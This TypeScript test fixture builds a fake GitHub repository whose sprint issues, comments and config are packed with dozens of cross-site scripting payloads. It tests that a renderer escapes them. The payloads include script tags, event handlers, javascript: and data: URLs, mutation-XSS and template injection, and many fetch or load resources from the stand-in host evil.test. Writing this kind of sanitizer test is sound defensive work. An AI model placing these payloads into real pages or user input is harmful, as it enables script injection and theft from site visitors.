/**
 * A small world whose issue title, description and comments are full of script-injection payloads.
 * Every payload, if it ran, would leave a trace the tests look for: a dialog, a console message
 * containing XSS_MARKER, a request to evil.test (outside the fenced origin) or `window.__xss`.
 */
import type { FakeComment, FakeIssue, FakeWorld } from '../../tests/fake-github/world.ts';

export const XSS_MARKER = 'XSS-MARKER';
/** Text of the links whose href is a script URL in the source; the test clicks every one. */
export const CLICK_ME = 'click-me';

const hit = (tag: string) => `alert('${tag}');console.log('${XSS_MARKER} ${tag}');window.__xss='${tag}';fetch('http://evil.test/${tag}')`;

/** Payloads embedded in the title: rendered in <title>, headings, lists, feeds and meta tags. */
export const XSS_TITLE = `Sprint Jan 5 to Jan 16, 2026 <script>${hit('title-script')}</script><img src=x onerror="${hit('title-img')}"> "'></title><script>${hit('title-break')}</script><!--`;

/** One payload per line; each is a way script has got past a sanitizer. */
export const XSS_PAYLOADS: string[] = [
  `<script>${hit('script')}</script>`,
  `<SCRIPT SRC=http://evil.test/xss.js></SCRIPT>`,
  `<img src=x onerror="${hit('img-onerror')}">`,
  `<img src="x" onload="${hit('img-onload')}">`,
  `<svg onload="${hit('svg-onload')}"><script>${hit('svg-script')}</script></svg>`,
  `<svg><a xlink:href="javascript:${hit('svg-xlink')}"><text x="20" y="20">${CLICK_ME} svg</text></a></svg>`,
  `<body onload="${hit('body-onload')}">`,
  `<iframe src="javascript:${hit('iframe-js')}"></iframe>`,
  `<iframe srcdoc="<script>parent.${hit('iframe-srcdoc')}</script>"></iframe>`,
  `<iframe src="http://evil.test/frame"></iframe>`,
  `<form action="http://evil.test/form"><input name="q" value="${CLICK_ME} form"><button formaction="javascript:${hit('formaction')}">${CLICK_ME} form button</button></form>`,
  `<style>body{background:url('http://evil.test/style-element')} *{display:none}</style>`,
  `<div style="background-image:url(http://evil.test/style-attr);position:fixed;inset:0">styled overlay</div>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${hit('meta-refresh')}">`,
  `<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">`,
  `<link rel="stylesheet" href="http://evil.test/link.css">`,
  `<base href="http://evil.test/">`,
  `<object data="http://evil.test/object"></object><embed src="http://evil.test/embed">`,
  `<a href="javascript:${hit('a-js')}">${CLICK_ME} 1</a>`,
  `<a href="JaVaScRiPt:${hit('a-case')}">${CLICK_ME} 2</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${hit('a-entity')}">${CLICK_ME} 3</a>`,
  `<a href="java&#x09;script:${hit('a-tab')}">${CLICK_ME} 4</a>`,
  `<a href=" &#14; javascript:${hit('a-space')}">${CLICK_ME} 5</a>`,
  `[${CLICK_ME} 6](javascript:${hit('md-link')})`,
  `[${CLICK_ME} 7](JAVASCRIPT:alert%28'md-upper'%29)`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLWRhdGEnKTwvc2NyaXB0Pg==">${CLICK_ME} 8</a>`,
  `<a href="vbscript:msgbox('xss')">${CLICK_ME} 9</a>`,
  `[${CLICK_ME} 10][ref]\n\n[ref]: javascript:${hit('md-ref')}`,
  `![${CLICK_ME} image](javascript:${hit('md-image')})`,
  `<details open ontoggle="${hit('ontoggle')}"><summary>toggle</summary>body</details>`,
  `<input autofocus onfocus="${hit('autofocus')}">`,
  `<video><source onerror="${hit('video-source')}"></video><audio src=x onerror="${hit('audio')}"></audio>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${hit('mxss-math')}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit('noscript').replaceAll(' ', '')}>"></noscript>`,
  `<template><script>${hit('template')}</script></template>`,
  `<div id="x" class="x" data-x="1" onclick="${hit('onclick')}" onmouseover="${hit('onmouseover')}">${CLICK_ME} div with handlers</div>`,
  `<p>&lt;script&gt;alert('escaped stays text')&lt;/script&gt;</p>`,
  `<a href="#" id="__proto__" name="constructor">clobbering</a><form name="getElementById"></form><img name="body">`,
  `{{constructor.constructor('${hit('template-injection')}')()}} \${alert('tpl')} <%= 1 %>`,
  '```html\n<script>alert("in a code block: must show as text")</script>\n```',
  `<x-el onclick="${hit('custom-el')}">custom element</x-el>`,
  `<img src=x:alert(1) onerror=eval(src.slice(2)) alt="eval-img">`,
  `<a href="https://example.org" target="_blank" rel="opener">external link with opener</a>`,
];

const AT = '2026-01-05T09:00:00Z';

function comment(databaseId: number, body: string, login = 'mallory'): FakeComment {
  return { databaseId, author: { login, type: 'User' }, body, createdAt: AT, updatedAt: AT, isMinimized: false, minimizedReason: null };
}

/** A team update that the parser will structure, with payloads in headings, items, owners and OKRs. */
function teamUpdate(): string {
  return [
    `# Team Platform <img src=x onerror="${hit('team-heading')}">`,
    '',
    `**Support hero:** @mallory <script>${hit('support')}</script>`,
    '',
    '## Retro',
    `- 🟢 Ship <img src=x onerror="${hit('retro-item')}"> the thing @mallory`,
    `- 🔴 [${CLICK_ME} retro](javascript:${hit('retro-link')}) @mallory`,
    '',
    '## OKR',
    `- Objective 1: Keep <script>${hit('okr')}</script> us safe`,
    `  - 🟡 KR: no <svg onload="${hit('kr')}"></svg> injections`,
    '',
    '## High prio',
    ...XSS_PAYLOADS.slice(0, 12).map((payload) => `- 🟢 ${payload.replaceAll('\n', ' ')} @mallory`),
  ].join('\n');
}

/** One repo, two sprints, payloads everywhere a user can type. */
export function buildXssWorld(): { world: FakeWorld; config: object } {
  const issue = (number: number, title: string, body: string, comments: FakeComment[]): FakeIssue => ({
    number,
    title,
    body,
    state: 'CLOSED',
    author: { login: 'mallory', type: 'User' },
    createdAt: AT,
    updatedAt: AT,
    closedAt: AT,
    lastEditedAt: null,
    labels: ['sprint'],
    comments,
  });
  return {
    world: {
      repos: [
        {
          owner: 'acme',
          name: 'planning',
          issues: [
            issue(1, XSS_TITLE, XSS_PAYLOADS.join('\n\n'), [
              comment(9001, teamUpdate()),
              comment(9002, XSS_PAYLOADS.join('\n\n')),
              comment(9003, `# Team <script>${hit('team-name')}</script>Data\n\n## Retro\n- ✅ done <img src=x onerror="${hit('data-item')}"> @eve`, 'eve'),
            ]),
            issue(2, 'Sprint Jan 19 to Jan 30, 2026', 'A calm sprint.', [comment(9004, '# Team Platform\n\n## Retro\n- ✅ calm @mallory')]),
          ],
        },
      ],
    },
    config: { title: `Archive <script>${hit('config-title')}</script>`, repos: ['acme/planning'], label: 'sprint' },
  };
}
